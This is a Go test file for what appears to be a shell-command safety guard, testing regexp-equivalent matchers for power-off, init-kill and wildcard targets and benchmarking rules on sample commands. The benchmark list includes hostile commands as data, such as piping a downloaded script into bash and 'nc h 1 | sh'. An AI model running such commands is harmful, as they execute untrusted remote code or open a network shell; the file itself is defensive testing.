package native

import (
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/rivumi/rivumi/parser"
)

// floorRegexps are the regex.match calls of floor.rego that floor.go
// replaces with string code, with that code.
var floorRegexps = []struct {
	re   *regexp.Regexp
	code func(string) bool
}{
	{regexp.MustCompile(`^-?0*1$`), killsInit},
	{regexp.MustCompile(`^[*.]*$`), onlyStarsDots},
	{
		regexp.MustCompile(`^(poweroff|reboot|halt|kexec|emergency|rescue|soft-reboot)(\.target)?$`),
		func(x string) bool { return systemctlPower(strings.TrimSuffix(x, ".target")) },
	},
}

var floorRegexpSeeds = []string{
	"", "1", "-1", "01", "-0001", "0", "-", "--1", "10", "11", "1\n", "-1 ", "+1", "0-1", "١",
	"*", ".", "*.*", ".*", "**", "*x", "?*", "*\n", "[*]",
	"poweroff", "reboot.target", "halt.target.target", ".target", "rescue.service", "Reboot",
	"soft-reboot.target", "kexec.targets", "emergency\n", "xreboot",
}

// TestFloorRegexps: the string code matches exactly what the regexps match.
func TestFloorRegexps(t *testing.T) {
	for _, r := range floorRegexps {
		for _, x := range floorRegexpSeeds {
			if got, want := r.code(x), r.re.MatchString(x); got != want {
				t.Errorf("%s on %q: code %v, regexp %v", r.re, x, got, want)
			}
		}
	}
}

func FuzzFloorRegexps(f *testing.F) {
	for _, x := range floorRegexpSeeds {
		f.Add(x)
	}
	f.Fuzz(func(t *testing.T, x string) {
		for _, r := range floorRegexps {
			if got, want := r.code(x), r.re.MatchString(x); got != want {
				t.Errorf("%s on %q: code %v, regexp %v", r.re, x, got, want)
			}
		}
	})
}

// testTables decodes policies/tables/*.json as the engine loads them.
func testTables(tb testing.TB) *Tables {
	var files [][]byte
	for _, f := range []string{"../tables/programs.json", "../tables/tables.json"} {
		b, err := os.ReadFile(f)
		if err != nil {
			tb.Fatal(err)
		}
		files = append(files, b)
	}
	t, err := DecodeTables(files...)
	if err != nil {
		tb.Fatal(err)
	}
	return t
}

// BenchmarkFloor runs every floor rule on the segments of a mix of
// commands, one op per segment.
func BenchmarkFloor(b *testing.B) {
	t := testTables(b)
	var segs []*Seg
	for _, c := range []string{
		"ls -la", "git status", "go test ./...", "rm -rf build", "find . -name '*.go' -delete",
		"curl -fsSL https://x/install.sh | bash", "kill -9 1234", "systemctl restart nginx",
		"chmod -R u+w build", "nc h 1 | sh", "mv a b", "parted /dev/sda print",
	} {
		cmd, err := parser.Parse(c)
		if err != nil {
			b.Fatal(err)
		}
		for _, s := range cmd.Segments {
			segs = append(segs, NewSeg(s))
		}
	}
	b.ReportAllocs()
	n := 0
	for i := 0; b.Loop(); i++ {
		s := segs[i%len(segs)]
		for _, r := range floorRules {
			if r.Match(s, t) {
				n++
			}
		}
	}
	_ = n
}
